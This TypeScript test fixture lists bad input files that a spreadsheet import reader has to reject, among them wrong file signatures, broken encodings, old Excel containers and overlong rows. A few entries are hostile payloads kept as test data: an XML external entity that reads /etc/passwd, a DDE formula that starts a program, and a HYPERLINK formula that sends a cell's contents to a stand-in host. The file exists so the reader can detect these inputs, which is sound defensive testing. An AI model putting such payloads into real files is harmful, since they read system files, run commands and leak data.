import type { MessageKey } from '../../../../server/api/messages.ts';
import type { FileFormat } from '../../../../server/exchange/reading/table.ts';

/** A bad file, and what must be said of it: a problem of the file, or the fault of a cell with the name of the cell. */
export interface BadFile {
  name: string;
  content: () => string | Uint8Array;
  says: MessageKey | `${MessageKey} ${string}`;
  line?: number;
  wish?: Partial<FileFormat>;
}

const latin1 = (text: string) => Buffer.from(text, 'latin1');
const hex = (digits: string) => Buffer.from(digits, 'hex');
const bytes = (...parts: (string | Uint8Array)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)));
const named = <T>(table: Readonly<Record<string, T>>) => Object.entries(table);
const printed = (code: number) => code.toString(16).padStart(4, '0').toUpperCase();

/** Bytes that are no UTF-8, from the tests of M. Kuhn's decoder stress test. */
const NOT_UTF8 = {
  'a continuation byte alone': '80',
  'a first byte without the second': 'c3',
  'two of three bytes': 'e282',
  'three of four bytes': 'f09f98',
  'a slash in two bytes': 'c0af',
  'a slash in three bytes': 'e080af',
  'half of a surrogate pair': 'eda080',
  'beyond the last character': 'f4908080',
  'byte FE': 'fe',
  'byte FF': 'ff',
};

const FOREIGN_BYTES: Readonly<Record<string, readonly [string | Uint8Array, MessageKey]>> = {
  PDF: ['%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'file.pdf'],
  'PDF behind blanks': ['\r\n %PDF-1.4', 'file.pdf'],
  PNG: [hex('89504e470d0a1a0a0000000d49484452'), 'file.image'],
  JPEG: [hex('ffd8ffe000104a464946'), 'file.image'],
  GIF: ['GIF89a\x01\x00', 'file.image'],
  'TIFF, low byte first': [hex('49492a0008000000'), 'file.image'],
  'TIFF, high byte first': [hex('4d4d002a00000008'), 'file.image'],
  WebP: [bytes('RIFF', hex('10000000'), 'WEBPVP8 '), 'file.image'],
  gzip: [hex('1f8b0800000000000003'), 'file.archive'],
  '7-Zip': [hex('377abcaf271c0004'), 'file.archive'],
  RAR: [hex('526172211a0701'), 'file.archive'],
  xz: [hex('fd377a585a000004'), 'file.archive'],
  Zstandard: [hex('28b52ffd0458'), 'file.archive'],
  bzip2: ['BZh91AY&SY', 'file.archive'],
  RTF: ['{\\rtf1\\ansi Inventarie}', 'file.document'],
  'HTML with a document type': ['<!DOCTYPE html>\n<html><table><tr><td>a', 'file.html'],
  'HTML named .xls, as many reports are': [
    '<html xmlns:x="urn:schemas-microsoft-com:office:excel"><table>',
    'file.html',
  ],
  'a bare HTML table': ['\n <TABLE border=1><tr><td>Namn</td></tr></TABLE>', 'file.html'],
  'HTML as XML': ['<?xml version="1.0"?>\n<!DOCTYPE html PUBLIC "x">', 'file.html'],
  'HTML behind a comment': ['<!-- report --><html><body>', 'file.html'],
  'HTML in UTF-16': [Buffer.from('\ufeff<html><table><tr><td>a</td></tr>', 'utf16le'), 'file.html'],
  'a web archive': ['MIME-Version: 1.0\nContent-Type: multipart/related', 'file.html'],
  'a table of Excel 2003 as XML': [
    '<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">',
    'file.markup',
  ],
  'XML without a declaration': ['<assets><asset id="1"/></assets>', 'file.markup'],
  'XML with a mark': ['\ufeff<?xml version="1.0"?><a/>', 'file.markup'],
  'a document type with an external entity': [
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    'file.markup',
  ],
  'a list in JSON': ['[\n  {"tag": "RE-1"}\n]', 'file.json'],
  'an object in JSON': ['{"data": []}', 'file.json'],
  'JSON lines': ['{"tag":"RE-1"}\n{"tag":"RE-2"}', 'file.json'],
  'rows in JSON': ['[["tag","name"]]', 'file.json'],
  'a program for Windows': [bytes('MZ', hex('90000300000004')), 'file.notText'],
  'a program for Linux': [bytes(hex('7f'), 'ELF', hex('020101000000')), 'file.notText'],
  SQLite: ['SQLite format 3\0', 'file.notText'],
  Parquet: [bytes('PAR1', hex('150415001500')), 'file.notText'],
  'a bitmap': [bytes('BM', hex('4600000000000000')), 'file.notText'],
  'zeros only': [Buffer.alloc(1_000), 'file.notText'],
  'one zero in text': ['Namn;Plats\na\0b;c', 'file.notText'],
  'UTF-32': [hex('fffe00004e00000061000000'), 'file.notText'],
  'a zip archive of nothing': [hex('504b0506000000000000000000000000000000000000'), 'file.archive'],
};

const ole = (sectorShift: number, directory: number, ...names: string[]) => {
  const file = Buffer.alloc(8_192);
  hex('d0cf11e0a1b11ae1').copy(file);
  file.writeUInt16LE(sectorShift, 30);
  file.writeUInt32LE(directory, 48);
  names.forEach((name, i) => Buffer.from(name, 'utf16le').copy(file, (directory + 1) * 2 ** sectorShift + i * 128));
  return file;
};

const OLE: Readonly<Record<string, readonly [() => Uint8Array, MessageKey]>> = {
  'an older Excel file': [() => ole(9, 1, 'Root Entry', 'Workbook'), 'file.oldExcel'],
  'a still older one': [() => ole(9, 2, 'Root Entry', 'Book'), 'file.oldExcel'],
  'an encrypted workbook': [() => ole(9, 1, 'Root Entry', 'EncryptionInfo', 'EncryptedPackage'), 'file.encrypted'],
  'a Word file': [() => ole(9, 1, 'Root Entry', 'WordDocument'), 'file.document'],
  'a directory at the end of the world': [() => ole(9, 0, 'Root Entry').fill(0xff, 48, 52), 'file.document'],
  'only its first bytes': [() => ole(9, 1).subarray(0, 8), 'file.notText'],
};

const LONG = 'Anteckning utan slut '.repeat(60_000);

const TEXTS: Readonly<Record<string, readonly [() => string | Uint8Array, BadFile['says'], line?: number]>> = {
  nothing: [() => '', 'file.empty'],
  'only the mark of UTF-8': [() => '\ufeff', 'file.empty'],
  'only the mark of UTF-16': [() => hex('fffe'), 'file.empty'],
  'only line ends': [() => '\r\n\n\r\r\n', 'file.empty'],
  'only delimiters': [() => ';;;\n;;\n', 'file.empty'],
  'only the delimiter’s own line': [() => 'sep=;\n', 'file.empty'],
  'only empty quotes': [() => '"";""\n""', 'file.empty'],
  'half a character of UTF-16': [() => hex('fffe41003b0042'), 'file.brokenEncoding', 1],
  'half of a pair in UTF-16': [() => hex('fffe61000a0000d84100'), 'file.brokenEncoding', 2],
  'half of a pair in UTF-16, high byte first': [() => hex('feff0061000ad8000041'), 'file.brokenEncoding', 2],
  'code page 850': [() => bytes('Namn;Plats\nDator;', hex('8f'), 're'), 'file.unknownEncoding', 2],
  'a colon as the delimiter': [() => 'sep=:\na:b', 'file.delimiter', 1],
  'a letter as the delimiter': [() => 'sep=x\naxb', 'file.delimiter', 1],
  'a quoted caret as the delimiter': [() => '"sep=^"\na^b', 'file.delimiter', 1],
  'a quote that opens in the header': [() => '"Namn;Plats\na;b\nc;d', 'file.openQuote', 1],
  'a quote that opens in a late row': [() => `Namn;Plats\n${'a;b\n'.repeat(5_000)}c;"d\ne;f`, 'file.openQuote', 5_002],
  'a quote that opens at the end': [() => 'Namn\na\n"', 'file.openQuote', 3],
  'a quote that swallows lines': [() => 'Namn;Plats\n"24 tum;Åre\nDator;"Ronneby"\nX;Y', 'cell.quotes A2'],
  'a cell without an end': [() => `Namn\na\n${LONG}`, 'file.rowTooLong', 3],
  'a quoted cell without an end': [() => `Namn\na\n"${LONG}`, 'file.rowTooLong', 3],
  'a quoted cell of lines without an end': [() => `Namn\n"${'a\n'.repeat(600_000)}`, 'file.rowTooLong', 2],
  'a row of delimiters without an end': [() => `Namn\n${';'.repeat(1_200_000)}`, 'file.rowTooLong', 2],
  'a row of empty quotes without an end': [() => `Namn\n${'"";'.repeat(400_000)}`, 'file.rowTooLong', 2],
  'line ends of another world': [() => 'Namn;Plats\u2028a;b'.repeat(80_000), 'file.rowTooLong', 1],
  'a thousand and one columns': [() => `Namn\n${'a;'.repeat(1_001)}`, 'file.tooManyColumns', 2],
  'something in a column far out': [() => `Namn\n${';'.repeat(16_383)}a`, 'file.tooManyColumns', 2],
  'more rows than a sheet has': [() => 'a\n'.repeat(1_048_577), 'file.tooManyRows', 1_048_577],
  'a cell that is too long': [() => `Namn;Plats\na;${'x'.repeat(32_768)}`, 'cell.tooLong B2'],
  'a cell that is too long, of characters of two units': [() => `Namn\n${'😀'.repeat(16_384)}`, 'cell.tooLong A2'],
  'a formula': [() => 'Namn;Pris\na;=1+2', 'cell.formula B2'],
  'a formula that runs a program': [() => `Namn\n=cmd|' /C calc'!A0`, 'cell.formula A2'],
  'a formula that sends data away': [() => 'Namn\n"=HYPERLINK(""http://x.example/?""&A1)"', 'cell.formula A2'],
  'a formula in a later column of a later row': [() => 'a;b;c\n1;2;3\n4;5;=SUM(A2:A3)', 'cell.formula C3'],
  'a formula in column AA': [() => `a\n${';'.repeat(26)}=1`, 'cell.formula AA2'],
  'a model number that Excel has shortened': [() => 'Modell\n6.37702E+15', 'cell.lostDigits A2'],
  'one that Swedish Excel has shortened': [() => 'Modell\n1,23457E+12', 'cell.lostDigits A2'],
  'one that is negative': [() => 'Modell\n-1.2E+20', 'cell.lostDigits A2'],
  'one without decimals': [() => 'Modell\n5E+18', 'cell.lostDigits A2'],
  'one beyond all numbers': [() => 'Modell\n1E+999', 'cell.lostDigits A2'],
  'one that Excel keeps as text after it was shortened': [() => 'Modell\n="6.37702E+15"', 'cell.lostDigits A2'],
  'a formula in what Excel keeps as text': [() => 'Modell\n"=""=1+2"""', 'cell.formula A2'],
};

/** Characters that no text has: controls, what stands for lost ones, and two that are no characters. */
const UNREADABLE = [
  ...Array.from({ length: 31 }, (_, i) => i + 1).filter((code) => ![0x09, 0x0a, 0x0d].includes(code)),
  0x7f,
  0x80,
  0x85,
  0x9f,
  0xfffd,
  0xfffe,
  0xffff,
];

export const BAD_TEXTS: readonly BadFile[] = [
  ...named(FOREIGN_BYTES).map(([name, [content, says]]) => ({ name, content: () => content, says })),
  ...named(OLE).map(([name, [content, says]]) => ({ name, content, says })),
  ...named(TEXTS).map(([name, [content, says, line]]) => ({ name, content, says, line })),
  ...named(NOT_UTF8).map(([name, wrong]) => ({
    name: `marked as UTF-8, with ${name}`,
    content: () => bytes('\ufeffNamn;Plats\nDator;R', hex(wrong), 'nneby\n'),
    says: 'file.brokenEncoding' as const,
    line: 2,
  })),
  ...[0x81, 0x8d, 0x8f, 0x90, 0x9d].map((code) => ({
    name: `neither UTF-8 nor Windows-1252, for byte ${code.toString(16)}`,
    content: () => bytes(latin1('Namn;Plats\r\nDator;Åre\r\n'), Buffer.from([code])),
    says: 'file.unknownEncoding' as const,
    line: 3,
  })),
  ...UNREADABLE.map((code) => ({
    name: `U+${printed(code)} in a cell`,
    content: () => `Namn;Plats\na;b${String.fromCharCode(code)}`,
    says: 'cell.unreadable B2' as const,
  })),
  {
    name: 'Windows-1252 that is wished to be UTF-8',
    content: () => latin1('Namn\nÅre'),
    says: 'file.brokenEncoding',
    line: 2,
    wish: { encoding: 'UTF-8' },
  },
  {
    name: 'UTF-8 that is wished to be UTF-16',
    content: () => 'Namn\nab',
    says: 'file.brokenEncoding',
    line: 1,
    wish: { encoding: 'UTF-16LE' },
  },
];
